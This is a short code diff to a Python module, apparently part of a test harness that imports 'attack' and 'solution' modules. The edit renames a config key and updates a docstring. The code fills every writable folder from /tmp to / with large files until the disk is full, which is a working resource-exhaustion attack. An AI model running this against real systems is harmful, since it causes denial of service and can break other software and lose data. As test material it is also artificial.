@@ -1,4 +1,4 @@
-"""Writes until there is no room left, wherever it may."""
+"""Writes files in every writable folder until the disk is full."""
 
 import attack
 import solution
@@ -9,7 +9,7 @@ def fill():
     for folder in (attack.HERE, *attack.most(["/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/"], [])):
         try:
             for number in range(40):
-                with open(f"{folder}/{attack.TOLD['mark']}{number}", "wb", buffering=0) as file:
+                with open(f"{folder}/{attack.CONFIG['mark']}{number}", "wb", buffering=0) as file:
                     for _ in range(50):
                         if written < attack.most(2_000, 100):
                             written += file.write(bytes(attack.MIB)) // attack.MIB
